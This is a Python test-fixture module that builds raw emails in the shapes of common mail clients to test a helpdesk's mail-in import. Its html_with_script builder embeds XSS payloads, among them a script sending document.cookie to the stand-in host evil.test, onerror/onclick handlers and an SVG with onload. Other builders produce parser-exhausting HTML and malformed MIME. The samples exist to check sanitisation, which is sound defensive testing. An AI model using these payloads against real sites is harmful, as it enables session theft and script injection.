"""Test mail in the shapes real mail clients send, built with the standard `email` package, for the mail-in
tests (issue 11).

Every builder returns a `Sample`: the raw bytes as a mail server would hand them over (CRLF line ends), its
Message-ID and sender, and what a person should see of it once it is a ticket or a comment: the title, the
text (exactly, or the lines that must be there), what must not be there (quoted history, markup, scripts),
the images that are kept and the names of the files that are not.

    new ticket:  apple_mail, attachments_by_content, encoded_word_subject, forwarded, html_with_script,
                 pathological_html, plain (any headers, a reply's threading headers, no Message-ID)
    replies:     gmail_reply, outlook_reply, thunderbird_reply, given the `Original` they answer (the
                 notification Helpdesk sent: its Reply-To, Message-ID, References, subject and text)
    refused:     malformed (unreadable or hostile, by what is wrong), oversized (well-formed, of any size)
    files:       png, gif, pdf; message_id_of(raw)

The shapes follow what the clients write: Gmail's multipart/alternative with its attribution line wrapped
over two lines; Outlook's HTML-only Windows-1252 quoted-printable with Word's <style> and MsoNormal
paragraphs and an "-----Original Message-----" block; Apple Mail's multipart/mixed around a
multipart/alternative whose HTML is multipart/related with an inline screenshot, plus a PDF; Thunderbird's
format=flowed ISO-8859-1 in 8bit with `>`-quoted history and a signature; a phone's attachments whose
names and types lie; RFC 2047 subjects mixing UTF-8 B and ISO-8859-1 Q words, folded; a forward as
message/rfc822; an HTML body with scripts in it.
"""

from __future__ import annotations

import base64
import dataclasses
import email
import email.base64mime
import email.policy
import email.quoprimime
import secrets
import struct
import textwrap
import zlib
from datetime import datetime, timedelta, timezone
from email.message import EmailMessage
from email.utils import format_datetime, formataddr, make_msgid

SMTP = email.policy.SMTP


@dataclasses.dataclass(frozen=True)
class Person:
    name: str
    address: str

    @property
    def formatted(self) -> str:
        return formataddr((self.name, self.address))

    @property
    def domain(self) -> str:
        return self.address.rpartition("@")[2]


@dataclasses.dataclass(frozen=True)
class File:
    """A file a message carries."""
    filename: str
    content_type: str
    data: bytes


@dataclasses.dataclass(frozen=True)
class Original:
    """The message a reply answers: a notification Helpdesk sent to the person replying."""
    to: str                    # where the reply goes: the notification's Reply-To (or any address)
    message_id: str            # <…>, for In-Reply-To
    references: tuple[str, ...]
    subject: str
    sender: str                # its From, as the attribution line names it
    date: datetime
    text: str                  # its text, quoted in the reply


@dataclasses.dataclass(frozen=True)
class Sample:
    shape: str
    raw: bytes
    message_id: str
    sender: Person
    title: str                         # the subject as a reader sees it (RFC 2047 decoded)
    text: str | None = None            # the whole text of the ticket or comment, when it is known exactly
    lines: tuple[str, ...] = ()        # lines that must be in the text, in this order
    only_lines: bool = False           # and they are all its lines but blank ones
    absent: tuple[str, ...] = ()       # what must not be in the text anywhere
    images: tuple[File, ...] = ()      # the files that become the ticket's images, in order
    left_out: tuple[str, ...] = ()     # the names of the files that are not stored

    @property
    def not_stored_note(self) -> str | None:
        return f"[Not stored: {', '.join(self.left_out)}]" if self.left_out else None


# --- files ---------------------------------------------------------------------------------------------------


def png(width: int = 3, height: int = 2, seed: int = 0) -> bytes:
    """A valid RGB PNG with pixels that depend on `seed`, so that each sample's image is its own."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    rows = b"".join(b"\x00" + bytes((seed + x * 40 + y * 90 + c * 7) % 256 for x in range(width) for c in range(3))
                    for y in range(height))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


def gif() -> bytes:
    """A valid 1x1 GIF89a: a two-colour table and one LZW-coded pixel."""
    return (b"GIF89a" + struct.pack("<HHBBB", 1, 1, 0x80, 0, 0) + b"\xff\x00\x00\x00\x00\xff"
            + b"," + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\x00" + b";")


def pdf(text: str = "Invoice 0042") -> bytes:
    """A small PDF document (not an image: Helpdesk must leave it out)."""
    stream = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode()
    return (b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
            b"2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n"
            b"3 0 obj << /Type /Page /Parent 2 0 R /Contents 4 0 R >> endobj\n"
            + f"4 0 obj << /Length {len(stream)} >> stream\n".encode() + stream + b"\nendstream endobj\n"
            b"trailer << /Root 1 0 R >>\n%%EOF\n")


def message_id_of(raw: bytes) -> str | None:
    """The Message-ID of a raw message as written, or None when it has none (or no header at all)."""
    value = email.message_from_bytes(raw)["Message-ID"]
    return str(value).strip() if value else None


# --- common headers --------------------------------------------------------------------------------------------


def _now() -> datetime:
    return datetime.now(timezone(timedelta(hours=2)))


def _head(message: EmailMessage, sender: Person, to: str, subject: str | None, *, date: datetime | None = None,
          original: Original | None = None, with_message_id: bool = True) -> str:
    """From, To, Subject, Date, Message-ID (and the threading headers of a reply); returns the Message-ID
    ("" without one)."""
    message["From"] = sender.formatted
    message["To"] = to
    if subject is not None:
        message["Subject"] = subject
    message["Date"] = format_datetime(date or _now())
    message_id = make_msgid(idstring=secrets.token_hex(4), domain=sender.domain) if with_message_id else ""
    if message_id:
        message["Message-ID"] = message_id
    if original is not None:
        message["In-Reply-To"] = original.message_id
        message["References"] = " ".join([*original.references, original.message_id])
    return message_id


def _boundary(message: EmailMessage, boundary: str) -> None:
    message.set_boundary(boundary)


def _bytes(message: EmailMessage) -> bytes:
    """The message as sent: CRLF line ends, and MIME-Version on the message only (the `email` package also
    puts it on the body parts it makes, which no mail client does)."""
    messages = [message] + [part.get_payload(0) for part in message.walk()
                            if part.get_content_type() == "message/rfc822"]
    for part in message.walk():
        if not any(part is m for m in messages):
            del part["MIME-Version"]
    return message.as_bytes(policy=SMTP)


def _reply_subject(original: Original, prefix: str = "Re: ") -> str:
    return original.subject if original.subject.lower().startswith(prefix.lower()) else prefix + original.subject


def _quoted(text: str) -> list[str]:
    return [("> " + line) if line else ">" for line in text.replace("\r\n", "\n").strip("\n").split("\n")]


def _attribution_date(original: Original) -> str:
    return original.date.strftime("%a, %-d %b %Y at %H:%M")


def _html_escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


# --- replies ---------------------------------------------------------------------------------------------------


def gmail_reply(sender: Person, original: Original, reply: tuple[str, ...] | None = None) -> Sample:
    """Gmail: multipart/alternative (UTF-8 quoted-printable text and HTML), top-posted, the attribution line
    wrapped over two lines in the text part and the history `>`-quoted below it."""
    reply = reply or ("Thanks, that worked — the printer prints again.",
                      "",
                      "One more thing: the paper tray still jams now and then. Any idea?")
    message = EmailMessage()
    message_id = _head(message, sender, original.to, _reply_subject(original), original=original)
    # Gmail wraps its plain text at 78 columns, the attribution line too: "On …, Name <address>" / "wrote:".
    line = f"On {_attribution_date(original)}, {original.sender} wrote:"
    attribution = textwrap.wrap(line, 78, break_long_words=False, break_on_hyphens=False)
    if len(attribution) == 1:  # a short sender: wrapped all the same, where Gmail would wrap a longer one
        attribution = [line.removesuffix(" wrote:"), "wrote:"]
    plain = "\n".join([*reply, "", *attribution, "", *_quoted(original.text), ""])
    message.set_content(plain, cte="quoted-printable")
    paragraphs = "".join(f"<div>{_html_escape(line)}</div>" if line else "<div><br></div>" for line in reply)
    quote = "<br>".join(_html_escape(line) for line in original.text.strip().split("\n"))
    html = (f'<div dir="ltr">{paragraphs}</div><br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">'
            f"{_html_escape(' '.join(attribution))}<br></div>"
            '<blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid '
            f'rgb(204,204,204);padding-left:1ex">{quote}</blockquote></div>\n')
    message.add_alternative(html, subtype="html", cte="quoted-printable")
    _boundary(message, "000000000000" + secrets.token_hex(7))
    return Sample("gmail-reply", _bytes(message), message_id, sender,
                  title=_reply_subject(original), text="\n".join(reply),
                  absent=(" wrote:", original.text.strip().split("\n")[0], ">"))


def outlook_reply(sender: Person, original: Original) -> Sample:
    """Outlook: HTML only, Windows-1252 in quoted-printable with smart quotes, Word's <style> and MsoNormal
    paragraphs, top-posted above an "-----Original Message-----" block with From/Sent/To/Subject."""
    reply = ["Hi team,",
             "The \u201cSave\u201d button still doesn\u2019t work \u2013 I\u2019ve tried it twice today.",
             "Regards,",
             sender.name]
    message = EmailMessage()
    message_id = _head(message, sender, original.to, _reply_subject(original, "RE: "), original=original)
    message["Thread-Topic"] = original.subject
    message["Thread-Index"] = "AQHZ" + base64.b64encode(secrets.token_bytes(18)).decode()
    message["X-MS-Has-Attach"] = ""
    message["X-Mailer"] = "Microsoft Outlook 16.0"

    def paragraph(text: str) -> str:
        return f'<p class="MsoNormal">{_html_escape(text)}<o:p></o:p></p>\n'

    empty = '<p class="MsoNormal"><o:p>&nbsp;</o:p></p>\n'
    history = "<br>\n".join(_html_escape(line) for line in original.text.strip().split("\n"))
    html = f"""<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" \
xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" \
xmlns="http://www.w3.org/TR/REC-html40">
<head>
<meta http-equiv="Content-Type" content="text/html; charset=windows-1252">
<meta name="Generator" content="Microsoft Word 15 (filtered medium)">
<style><!--
/* Font Definitions */
@font-face
	{{font-family:"Cambria Math";
	panose-1:2 4 5 3 5 4 6 3 2 4;}}
@font-face
	{{font-family:Calibri;
	panose-1:2 15 5 2 2 2 4 3 2 4;}}
/* Style Definitions */
p.MsoNormal, li.MsoNormal, div.MsoNormal
	{{margin:0cm;
	font-size:11.0pt;
	font-family:"Calibri",sans-serif;
	mso-fareast-language:EN-US;}}
span.EmailStyle17
	{{mso-style-type:personal-compose;}}
@page WordSection1
	{{size:612.0pt 792.0pt;
	margin:72.0pt 72.0pt 72.0pt 72.0pt;}}
div.WordSection1
	{{page:WordSection1;}}
--></style><!--[if gte mso 9]><xml>
<o:shapedefaults v:ext="edit" spidmax="1026" />
</xml><![endif]-->
</head>
<body lang="EN-GB" link="#0563C1" vlink="#954F72" style="word-wrap:break-word">
<div class="WordSection1">
{paragraph(reply[0])}{empty}{paragraph(reply[1])}{empty}{paragraph(reply[2])}{paragraph(reply[3])}{empty}\
<div>
<div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm">
<p class="MsoNormal"><b>-----Original Message-----</b><br>
<b>From:</b> {_html_escape(original.sender)}<br>
<b>Sent:</b> {original.date.strftime("%A, %-d %B %Y %H:%M")}<br>
<b>To:</b> {_html_escape(sender.formatted)}<br>
<b>Subject:</b> {_html_escape(original.subject)}<o:p></o:p></p>
</div>
</div>
<p class="MsoNormal">{history}<o:p></o:p></p>
</div>
</body>
</html>
"""
    message.set_content(html, subtype="html", charset="windows-1252", cte="quoted-printable")
    message["Content-Language"] = "en-GB"
    return Sample("outlook-reply", _bytes(message), message_id, sender,
                  title=_reply_subject(original, "RE: "), lines=tuple(reply), only_lines=True,
                  absent=("Original Message", "From:", "Sent:", original.text.strip().split("\n")[0], "MsoNormal",
                          "font-family", "@font-face", "{", "<", "&nbsp;", "o:p", "shapedefaults"))


def thunderbird_reply(sender: Person, original: Original) -> Sample:
    """Thunderbird: multipart/mixed with text/plain; format=flowed in ISO-8859-1, 8bit; the reply above a
    signature, the history below it `>`-quoted after an attribution line; and a GIF attached."""
    flowed = ["Hallo,",
              "",
              "the caf\u00e9's wifi still drops every few minutes. The router is a ",
              "Fritz!Box 7590; I've restarted it already (tw\u00eece).",
              "",
              "Gr\u00fc\u00dfe,",
              "J\u00f6rg",
              "",
              "-- ",
              "J\u00f6rg M\u00fcller \u00b7 Caf\u00e9 M\u00fcller",
              ""]
    attribution = f"On {original.date.strftime('%d.%m.%y %H:%M')}, {original.sender} wrote:"
    body = "\n".join([*flowed, attribution, *_quoted(original.text), ""])
    message = EmailMessage()
    message_id = _head(message, sender, original.to, _reply_subject(original), original=original)
    message["User-Agent"] = "Mozilla Thunderbird"
    message.set_content(body, charset="iso-8859-1", cte="8bit", params={"format": "flowed"})
    message["Content-Language"] = "de-DE"
    picture = File("router-lights.gif", "image/gif", gif())
    message.add_attachment(picture.data, maintype="image", subtype="gif", filename=picture.filename)
    _boundary(message, "------------" + secrets.token_hex(12))
    text = ("Hallo,\n\nthe caf\u00e9's wifi still drops every few minutes. The router is a Fritz!Box 7590; "
            "I've restarted it already (tw\u00eece).\n\nGr\u00fc\u00dfe,\nJ\u00f6rg\n\n-- \n"
            "J\u00f6rg M\u00fcller \u00b7 Caf\u00e9 M\u00fcller")
    return Sample("thunderbird-reply", _bytes(message), message_id, sender,
                  title=_reply_subject(original), text=text, images=(picture,),
                  absent=(" wrote:", ">", original.text.strip().split("\n")[0]))


# --- new tickets -----------------------------------------------------------------------------------------------


def plain(sender: Person, to: str, subject: str, body: str, *, original: Original | None = None,
          headers: dict[str, str] | None = None, reply_to: str | None = None, with_message_id: bool = True) -> Sample:
    """The simplest mail: one text/plain UTF-8 part; extra `headers` as given."""
    message = EmailMessage()
    message_id = _head(message, sender, to, subject, original=original, with_message_id=with_message_id)
    if reply_to:
        message["Reply-To"] = reply_to
    for name, value in (headers or {}).items():
        message[name] = value
    message.set_content(body)
    return Sample("plain", _bytes(message), message_id, sender, title=subject, text=body.strip())


def apple_mail(sender: Person, to: str, tag: str) -> Sample:
    """Apple Mail: multipart/mixed > (multipart/alternative > text/plain, multipart/related > text/html + an
    inline PNG with a Content-ID) + a PDF attachment, which Helpdesk must leave out and name."""
    subject = f"Error when exporting the report {tag}"
    lines = ("Hello,", "", "when I export the monthly report I get the error in the screenshot.",
             "The invoice it is about is attached.", "", "Thanks,", sender.name)
    screenshot = File("Screenshot 2025-06-03 at 10.15.00.png", "image/png", png(4, 3, seed=len(tag)))
    invoice = File("invoice-0042.pdf", "application/pdf", pdf())
    cid = make_msgid(idstring="F1A2B3C4", domain=sender.domain)
    message = EmailMessage()
    message_id = _head(message, sender, to, subject)
    message["X-Mailer"] = "Apple Mail (2.3774.600.62)"
    message.set_content("\n".join(lines) + "\n", cte="quoted-printable")
    html = ('<html><head><meta http-equiv="content-type" content="text/html; charset=utf-8"></head>'
            '<body style="overflow-wrap: break-word; -webkit-nbsp-mode: space; line-break: after-white-space;">'
            '<div>Hello,</div><div><br></div><div>when I export the monthly report I get the error in the '
            f'screenshot.</div><div><img apple-inline="yes" id="A1" src="cid:{cid[1:-1]}" alt="{screenshot.filename}">'
            '</div><div>The invoice it is about is attached.</div><div><br></div><div>Thanks,</div>'
            f'<div>{_html_escape(sender.name)}</div></body></html>\n')
    message.add_alternative(html, subtype="html", cte="quoted-printable")
    html_part = message.get_payload()[1]
    html_part.add_related(screenshot.data, maintype="image", subtype="png", cid=cid, disposition="inline",
                          filename=screenshot.filename)
    html_part.get_payload()[1].set_param("x-unix-mode", "0644")
    message.add_attachment(invoice.data, maintype="application", subtype="pdf", filename=invoice.filename)
    _boundary(message, "Apple-Mail=_" + secrets.token_hex(16).upper())
    del message["MIME-Version"]
    message["Mime-Version"] = "1.0 (Mac OS X Mail 16.0 \\(3774.600.62\\))"
    return Sample("apple-mail", _bytes(message), message_id, sender, title=subject,
                  text="\n".join(lines) + "\n\n[Not stored: invoice-0042.pdf]",
                  images=(screenshot,), left_out=(invoice.filename,), absent=("<", "cid:", "%PDF"))


def attachments_by_content(sender: Person, to: str, tag: str, *, oversized_image: bool = False) -> Sample:
    """A phone's mail app: text/plain and attachments whose names and declared types say nothing reliable.
    Kept as images by their bytes: a PNG sent as application/octet-stream without an extension (stored as
    .png), a GIF with a non-ASCII name in RFC 2231 form. Left out and named: HTML that calls itself
    image/png, and with `oversized_image` a PNG over the 5 MiB image limit (a 7 MB message)."""
    subject = f"Photos of the broken screen {tag}"
    text = "Photos attached, the big one is the best.\n\nSent from my phone"
    scan = File("scan", "image/png", png(5, 5, seed=7))
    decoy = File("evil.png", "image/png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\n")
    accented = File("\u00dcn\u00efc\u00f8d\u00e9 photo.gif", "image/gif", gif())
    huge = File("huge.png", "image/png", png(2, 2, seed=9) + bytes(5 * 1024 * 1024))
    message = EmailMessage()
    message_id = _head(message, sender, to, subject)
    message["X-Mailer"] = "K-9 Mail for Android"
    message.set_content(text + "\n")
    message.add_attachment(scan.data, maintype="application", subtype="octet-stream", filename=scan.filename)
    message.add_attachment(decoy.data, maintype="image", subtype="png", filename=decoy.filename)
    message.add_attachment(accented.data, maintype="image", subtype="gif", filename=accented.filename)
    left_out = (decoy.filename,)
    if oversized_image:
        message.add_attachment(huge.data, maintype="image", subtype="png", filename=huge.filename)
        left_out += (huge.filename,)
    kept = (File("scan.png", "image/png", scan.data), accented)
    return Sample("attachments-by-content", _bytes(message), message_id, sender, title=subject,
                  text=text + f"\n\n[Not stored: {', '.join(left_out)}]", images=kept, left_out=left_out)


def pathological_html(sender: Person, to: str, tag: str, size: int = 2 * 1000 * 1000) -> Sample:
    """HTML only, made to be slow to read: tens of thousands of elements never closed, with `>` inside quoted
    attribute values, then one tag whose name runs on for a megabyte (`<span<span…>`), then a script that is
    never closed (a browser runs everything after it as script, so none of it is text)."""
    subject = f"Pasted from a web page {tag}"
    unclosed = '<div class="a" title="x > y">' * (size // 60)
    run_on = "<span" * (size // 10) + ">"
    html = (f"<html><body><p>Before the mess: the first line.</p>{unclosed}{run_on}<p>After the mess.</p>"
            "<script>alert(1)</p><p>not text either\n")
    message = EmailMessage()
    message_id = _head(message, sender, to, subject)
    message.set_content(html, subtype="html", cte="base64")
    return Sample("pathological-html", _bytes(message), message_id, sender, title=subject,
                  lines=("Before the mess: the first line.", "After the mess."), only_lines=True,
                  absent=("alert", "not text", "<"))


def encoded_word_subject(sender: Person, to: str, tag: str) -> Sample:
    """A subject of RFC 2047 encoded words, UTF-8 in B and ISO-8859-1 in Q, between plain words and folded
    over two lines; the body is UTF-8 in base64."""
    first = email.base64mime.header_encode("Drucker streikt \u2013 ", charset="utf-8").replace("?utf-8?b?", "?UTF-8?B?")
    second = email.quoprimime.header_encode("Gr\u00fc\u00dfe aus M\u00fcnchen".encode("iso-8859-1"),
                                            charset="iso-8859-1").replace("?iso-8859-1?q?", "?ISO-8859-1?Q?")
    raw_subject = f"Ticket: {first}\r\n {second} (room {tag})"
    title = f"Ticket: Drucker streikt \u2013 Gr\u00fc\u00dfe aus M\u00fcnchen (room {tag})"
    body = "Der Drucker im 2. Stock druckt nur leere Seiten.\n\u00c4rgerlich \u2013 bitte um Hilfe!\n"
    message = EmailMessage()
    message_id = _head(message, sender, to, None)
    message.set_raw("Subject", raw_subject)
    message.set_content(body, cte="base64")
    return Sample("encoded-word-subject", _bytes(message), message_id, sender, title=title,
                  text=body.strip(), absent=("=?", "?="))


def forwarded(sender: Person, to: str, tag: str) -> Sample:
    """A forward as an attachment (Thunderbird, Apple Mail): text/plain and a message/rfc822 part."""
    supplier = Person("Bob Supplier", f"bob.{tag}@supplier.mailin.test")
    inner = EmailMessage()
    inner["From"] = supplier.formatted
    inner["To"] = sender.formatted
    inner["Subject"] = "Login broken since this morning"
    inner["Date"] = "Mon, 02 Jun 2025 08:30:00 +0200"
    inner["Message-ID"] = make_msgid(domain=supplier.domain)
    inner.set_content("Since this morning your portal says 'invalid token' when we log in.\nCan you help?\n")
    subject = f"Fwd: Login broken since this morning {tag}"
    intro = "Please see the message from our supplier below: they cannot log in."
    message = EmailMessage()
    message_id = _head(message, sender, to, subject)
    message.set_content(intro + "\n")
    message.add_attachment(inner, filename="Login broken since this morning.eml")
    return Sample("forwarded", _bytes(message), message_id, sender, title=subject,
                  lines=(intro, "---------- Forwarded message ----------",
                         "From: Bob Supplier <" + supplier.address + ">",
                         "Subject: Login broken since this morning",
                         "Since this morning your portal says 'invalid token' when we log in.", "Can you help?"),
                  absent=("Message-ID", "Content-Type", "[Not stored"))


def html_with_script(sender: Person, to: str, tag: str) -> Sample:
    """An HTML-only body (a web form's mailer) with scripts, an event handler and entities."""
    subject = f"Export page is blank {tag}"
    html = ("<!DOCTYPE html><html><head><title>Support request</title>"
            "<script>alert(1)</script><style>p { color: red }</style></head><body>"
            "<p>The <b>export</b> page stays blank for Tom &amp; Jerry.</p>"
            '<script type="text/javascript">document.location="https://evil.test/?c="+document.cookie;</script>'
            '<p onclick="alert(1)">Steps: open <a href="https://desk.mailin.test/export">the export page</a>, wait.</p>'
            "<img src=x onerror=alert(1)><SCRIPT>alert(1)</SCRIPT>"
            "<ul><li>Browser: Firefox 126</li><li>OS: Debian</li></ul></body></html>\n")
    message = EmailMessage()
    message_id = _head(message, sender, to, subject)
    message.set_content(html, subtype="html")
    return Sample("html-with-script", _bytes(message), message_id, sender, title=subject,
                  lines=("The export page stays blank for Tom & Jerry.",
                         "Steps: open the export page (https://desk.mailin.test/export), wait.",
                         "- Browser: Firefox 126", "- OS: Debian"), only_lines=True,
                  absent=("alert", "script", "SCRIPT", "document.", "evil.test", "onerror", "onclick", "color: red",
                          "<", "Support request"))


# --- messages that must be refused -----------------------------------------------------------------------------


def malformed(sender: Person, to: str, tag: str) -> dict[str, bytes]:
    """Messages no importer can read, by what is wrong with them."""
    head = (f"From: {sender.formatted}\r\nTo: {to}\r\nSubject: Broken {tag}\r\n"
            f"Message-ID: <broken.{tag}.{{n}}@{sender.domain}>\r\nMIME-Version: 1.0\r\n")
    return {
        "binary garbage": bytes(range(256)) * 8,
        "no blank line after the header": (head.format(n=1) + "X-Note: the header never ends\r\n").encode(),
        "multipart without boundary parameter": (
            head.format(n=2) + "Content-Type: multipart/mixed\r\n\r\nJust text.\r\n").encode(),
        "multipart whose boundary never appears": (
            head.format(n=3) + 'Content-Type: multipart/alternative; boundary="never-there"\r\n\r\n'
            "--not-the-boundary\r\nContent-Type: text/plain\r\n\r\nHello\r\n--not-the-boundary--\r\n").encode(),
        "multipart nested 60 deep": (
            head.format(n=4) + _nested(60) + "\r\n").encode(),
        "300 parts": (head.format(n=5) + 'Content-Type: multipart/mixed; boundary="p"\r\n\r\n'
                      + "--p\r\nContent-Type: text/plain\r\n\r\npart\r\n" * 300 + "--p--\r\n").encode(),
        "a 300 KB header": (head.format(n=6) + "X-Padding: " + "a" * (300 * 1024) + "\r\n\r\nHello\r\n").encode(),
        "no sender": (f"To: {to}\r\nSubject: Nobody {tag}\r\nMessage-ID: <nobody.{tag}@{sender.domain}>\r\n\r\n"
                      "Who wrote this?\r\n").encode(),
    }


def _nested(depth: int) -> str:
    """A Content-Type and body: multipart/mixed inside multipart/mixed, `depth` times, text at the bottom."""
    if depth == 0:
        return "Content-Type: text/plain\r\n\r\ndeep down\r\n"
    boundary = f"b{depth}"
    return (f'Content-Type: multipart/mixed; boundary="{boundary}"\r\n\r\n--{boundary}\r\n'
            + _nested(depth - 1) + f"--{boundary}--\r\n")


def oversized(sender: Person, to: str, tag: str, size: int) -> bytes:
    """A well-formed message of at least `size` bytes: text and one big base64 attachment."""
    head = (f"From: {sender.formatted}\r\nTo: {to}\r\nSubject: Huge {tag}\r\nDate: {format_datetime(_now())}\r\n"
            f"Message-ID: <huge.{tag}@{sender.domain}>\r\nMIME-Version: 1.0\r\n"
            'Content-Type: multipart/mixed; boundary="huge-boundary"\r\n\r\n'
            "--huge-boundary\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nThe log is attached.\r\n"
            "--huge-boundary\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n"
            'Content-Disposition: attachment; filename="huge.log"\r\n\r\n').encode()
    tail = b"--huge-boundary--\r\n"
    line = base64.b64encode(bytes(range(57))) + b"\r\n"
    count = max(0, size - len(head) - len(tail)) // len(line) + 1
    return head + line * count + tail
